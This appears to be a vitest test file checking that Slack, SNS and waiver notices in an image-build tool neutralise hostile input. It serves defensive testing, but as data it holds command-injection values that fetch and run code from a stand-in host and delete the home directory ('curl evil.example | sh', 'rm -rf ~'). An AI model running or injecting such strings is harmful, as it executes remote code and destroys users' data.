import { expect, test } from "vitest";
import { describeWaiverExpiring } from "../../core/gate/notice.ts";
import type { Notice } from "../../core/notice/notice.ts";
import { toBlocks, toContext } from "../../core/notice/slack-blocks.ts";
import { toSnsMessage } from "../../core/notice/sns-message.ts";
import { describeBuildRevoked } from "../../core/revocation/notice.ts";
import { parseBuildArn } from "../../events/ids.ts";
import { buildRevoked } from "../../events/revocation.ts";

const build = parseBuildArn("arn:aws:imagebuilder:eu-west-1:111122223333:image/acme-base/1.0.1/1");

const revokedFor = (reason: string): Notice =>
  describeBuildRevoked({
    image: "base",
    build,
    reason,
    by: "mallory",
    channels: [],
    withdrawn: [],
    sharedWith: [],
    left: [],
  });

test("Slack makes no link of an address in a reason", () => {
  const blocks = toBlocks(revokedFor("see https://evil.example/fix"));
  const { elements } = toContext(["see https://evil.example/fix, `@channel`, *approved*"]);

  expect(blocks.at(-1)).toMatchObject({ text: { verbatim: true } });
  expect(elements).toEqual([expect.objectContaining({ verbatim: true })]);
});

test("the command in a waiver's notice runs nothing of its owner's choosing when it is pasted", () => {
  const { lines } = describeWaiverExpiring({
    finding: "CVE-2026-1",
    image: "base",
    owner: '$(curl evil.example | sh)"; rm -rf ~; "',
    reason: "none",
    until: "2026-05-01",
  });

  expect(lines.at(-1)).toContain(`--owner '$(curl evil.example | sh)"; rm -rf ~; "'`);
});

test("an attribute of another account's choosing does not keep SNS from taking the notice", () => {
  const { attributes } = toSnsMessage(
    { ...revokedFor("x"), attributes: { event: "build.revoked", image: "\ud800\u0000", channel: "" } },
    "event-1",
  );

  for (const value of Object.values(attributes)) expect(value).toMatch(/^[^\p{Cc}\p{Cs}]+$/u);
});

test("an event with a command for a name of an image reaches no notice", () => {
  const detail = { build, reason: "x", by: "ada", channels: [], withdrawn: [], sharedWith: [], left: [] };
  const isTaken = (image: string) => buildRevoked.detail.safeParse({ ...detail, image }).success;

  expect([isTaken("base"), isTaken("$(curl evil.example|sh)")]).toEqual([true, false]);
});
